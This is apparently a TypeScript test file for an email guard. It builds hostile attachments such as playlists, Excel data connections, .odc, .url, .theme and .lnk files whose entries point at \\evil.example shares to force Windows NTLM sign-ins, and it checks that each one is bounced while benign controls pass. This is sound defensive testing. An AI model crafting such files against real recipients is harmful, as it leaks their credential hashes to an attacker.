import { tnefStream, uuencode, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useTwinStack } from './twin-kit.js';

// Attacker round 119 (an outside sender, the guard at its defaults): files whose entries make Windows sign in to a
// computer the sender chose as they open. A playlist (`.m3u`, `.m3u8`, `.pls`, `.wpl`, `.zpl`, `.xspf`) naming
// `\\host\share\a.mp3`: the player opens each entry as the list opens (ntlm_theft's `.m3u`); an Excel workbook whose
// data connection (`xl/connections.xml`: an `.odc` file, a text file, a database's `Data Source`, a web query's
// `url`) is on a share, read as Excel refreshes it; an Office Data Connection file (`.odc`), which Excel opens and
// connects. Round 118 left them open: all were delivered. Playlists of local files and internet radio, and a
// workbook whose connection is on the drive or a web server, are delivered.
const stack = useTwinStack();
const kit = attackerKit(stack);
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const verdict = async (name: string, file: Buffer, type = 'application/octet-stream') =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;
const text = (s: string) => Buffer.from(s);
const wpl = (src: string) =>
  text(
    `<?wpl version="1.0"?><smil><head><title>Mix</title></head><body><seq><media src="${src}"/></seq></body></smil>`,
  );
// An `.xlsx` whose `xl/connections.xml` holds `connection` (Excel's own layout).
const connected = (connection: string) =>
  zipFile([
    { name: 'xl/workbook.xml', data: '<?xml version="1.0"?><workbook/>' },
    {
      name: 'xl/connections.xml',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${connection}</connections>`,
    },
  ]);

describe('A119-4: a playlist naming a file on another computer (bounced)', () => {
  const cases: Record<string, [string, Buffer]> = {
    'an .m3u entry by a UNC path': [
      'Mix.m3u',
      text('#EXTM3U\r\n#EXTINF:123,Song\r\n\\\\evil.example\\s\\a.mp3\r\n'),
    ],
    'an .m3u8 entry by file://host': ['Mix.m3u8', text('#EXTM3U\nfile://evil.example/s/a.mp3\n')],
    'an .m3u entry after a title with markup': [
      'Mix.m3u',
      text('#EXTM3U\r\n#EXTINF:123,<b>Song</b>\r\n\\\\evil.example\\s\\a.mp3\r\n'),
    ],
    'an .m3u entry in UTF-16': [
      'Mix.m3u',
      Buffer.from('\ufeff#EXTM3U\r\n\\\\evil.example\\s\\a.mp3\r\n', 'utf16le'),
    ],
    'a .pls entry': [
      'Mix.pls',
      text('[playlist]\r\nFile1=\\\\evil.example@SSL\\s\\a.mp3\r\nNumberOfEntries=1\r\n'),
    ],
    'a .wpl media source': ['Mix.wpl', wpl('\\\\evil.example\\s\\a.mp3')],
    'a .wpl media source by a reference': ['Mix.wpl', wpl('&#92;&#92;evil.example&#92;s&#92;a.mp3')],
    'an .xspf location': [
      'Mix.xspf',
      text(
        '<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>file://evil.example/s/a.mp3</location></track></trackList></playlist>',
      ),
    ],
    'an .m3u in a zip': ['Music.zip', zipFile([{ name: 'Mix.m3u', data: '\\\\evil.example\\s\\a.mp3\r\n' }])],
  };
  for (const [label, [name, file]] of Object.entries(cases)) {
    it(label, async () => {
      expect(await verdict(name, file)).toBe('BOUNCE');
    });
  }
  it('an .m3u in a winmail.dat (TNEF), whose entries are not read', async () => {
    const m3u = Buffer.from('#EXTM3U\r\n\\\\evil.example\\s\\a.mp3\r\n');
    const winmail = tnefStream([{ title: 'Mix.m3u', longName: 'Mix.m3u', data: m3u }]);
    expect(await verdict('winmail.dat', winmail, 'application/ms-tnef')).toBe('BOUNCE');
  });
  it('an .m3u uuencoded in the text', async () => {
    const m3u = Buffer.from('\\\\evil.example\\s\\a.mp3\r\n');
    const message = mail(
      ['From: x@evil.example', 'Content-Type: text/plain'],
      `Your mix:\r\n${uuencode(m3u, 'Mix.m3u')}\r\n`,
    );
    expect((await kit.inbound(message)).verdict).toBe('BOUNCE');
  });
  it('an .m3u one level down, in an attached message', async () => {
    const inner = [
      'From: dj@vendor.example',
      'Subject: mix',
      'MIME-Version: 1.0',
      'Content-Type: audio/x-mpegurl; name="Mix.m3u"',
      'Content-Disposition: attachment; filename="Mix.m3u"',
      '',
      '\\\\evil.example\\s\\a.mp3',
    ].join('\r\n');
    const message = mail(
      ['From: x@evil.example', MIXED],
      withPart(
        `Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="Mix.eml"\r\n\r\n${inner}`,
      ),
    );
    expect((await kit.inbound(message)).verdict).toBe('BOUNCE');
  });
});

describe('A119-5: an Excel data connection on another computer, and an .odc file (bounced)', () => {
  const cases: Record<string, [string, Buffer, string?]> = {
    'a connection file on a share': [
      'Figures.xlsx',
      connected(
        '<connection id="1" name="q" type="5" odcFile="\\\\evil.example\\s\\q.odc" refreshOnLoad="1"/>',
      ),
      XLSX,
    ],
    "a database's Data Source on a share": [
      'Figures.xlsx',
      connected(
        '<connection id="1" name="db" type="5" refreshOnLoad="1"><dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\s\\db.accdb;Mode=Read" command="T" commandType="3"/></connection>',
      ),
      XLSX,
    ],
    'an ODBC DBQ on a share, quoted': [
      'Figures.xlsx',
      connected(
        '<connection id="1" name="db" type="1"><dbPr connection="DSN=MS Access Database;DBQ=&quot;file://evil.example/s/db.accdb&quot;;" command="SELECT 1"/></connection>',
      ),
      XLSX,
    ],
    'a text import from a share': [
      'Figures.xlsx',
      connected(
        '<connection id="1" name="t" type="6" refreshOnLoad="1"><textPr sourceFile="\\\\evil.example\\s\\data.csv"/></connection>',
      ),
      XLSX,
    ],
    'a web query on a share': [
      'Figures.xlsx',
      connected(
        '<connection id="1" name="w" type="4"><webPr url="file://evil.example/s/t.htm"/></connection>',
      ),
      XLSX,
    ],
    'an Office Data Connection file': ['Query.odc', text('<html><xml id="msodc"></xml></html>')],
    'an unnamed text/x-ms-odc part': ['', text('<html><xml id="msodc"></xml></html>'), 'text/x-ms-odc'],
  };
  for (const [label, [name, file, type]] of Object.entries(cases)) {
    it(label, async () => {
      if (name === '') {
        const part = `Content-Type: ${type}\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n${file.toString('base64')}`;
        expect((await kit.inbound(mail(['From: x@evil.example', MIXED], withPart(part)))).verdict).toBe(
          'BOUNCE',
        );
      } else expect(await verdict(name, file, type)).toBe('BOUNCE');
    });
  }
});

describe('A119-7: held (refused by name before this round)', () => {
  const ini = (body: string) => Buffer.from(body.replaceAll('\n', '\r\n'));
  const cases: Record<string, [string, Buffer]> = {
    'a .url whose icon is on a share': [
      'Invoice.url',
      ini('[InternetShortcut]\nURL=https://x.example/\nIconFile=\\\\evil.example\\s\\i.ico\nIconIndex=1\n'),
    ],
    'a .searchConnector-ms in a zip': [
      'Docs.zip',
      zipFile([{ name: 'Docs.searchConnector-ms', data: '<searchConnectorDescription/>' }]),
    ],
    'a .library-ms in mixed case': ['Docs.Library-MS', Buffer.from('<libraryDescription/>')],
    'a .theme': ['Blue.theme', ini('[Control Panel\\Desktop]\nWallpaper=\\\\evil.example\\s\\w.jpg\n')],
    'a .themepack in a zip': ['Themes.zip', zipFile([{ name: 'Blue.themepack', data: 'MSCF' }])],
    'a .lnk in a zip': ['Docs.zip', zipFile([{ name: 'Docs/Invoice.pdf.lnk', data: 'L\0\0\0' }])],
  };
  for (const [label, [name, file]] of Object.entries(cases)) {
    it(label, async () => {
      expect(await verdict(name, file)).toBe('BOUNCE');
    });
  }
});

describe('A119-6: controls (delivered)', () => {
  const cases: Record<string, [string, Buffer, string?]> = {
    'an .m3u of local files and internet radio': [
      'Mix.m3u',
      text(
        '#EXTM3U\r\n#EXTINF:123,Song\r\nMusic\\a.mp3\r\nC:\\Music\\b.mp3\r\n../c.mp3\r\nhttp://radio.example/stream\r\n',
      ),
    ],
    'a .pls of internet radio': [
      'Radio.pls',
      text('[playlist]\nFile1=https://radio.example/listen\nTitle1=Radio\nNumberOfEntries=1\nVersion=2\n'),
    ],
    'a .wpl of local files': ['Mix.wpl', wpl('..\\Music\\a.mp3')],
    'a workbook whose connections are on the drive and a web server': [
      'Figures.xlsx',
      connected(
        '<connection id="1" name="a" type="6"><textPr sourceFile="C:\\Data\\a.csv"/></connection><connection id="2" name="w" type="4"><webPr url="https://data.example/t.htm"/></connection><connection id="3" name="db" type="5"><dbPr connection="Provider=SQLOLEDB;Data Source=sql01;Initial Catalog=Sales" command="T"/></connection>',
      ),
      XLSX,
    ],
  };
  for (const [label, [name, file, type]] of Object.entries(cases)) {
    it(label, async () => {
      expect(await verdict(name, file, type)).toBe('DEFAULT');
    });
  }
});
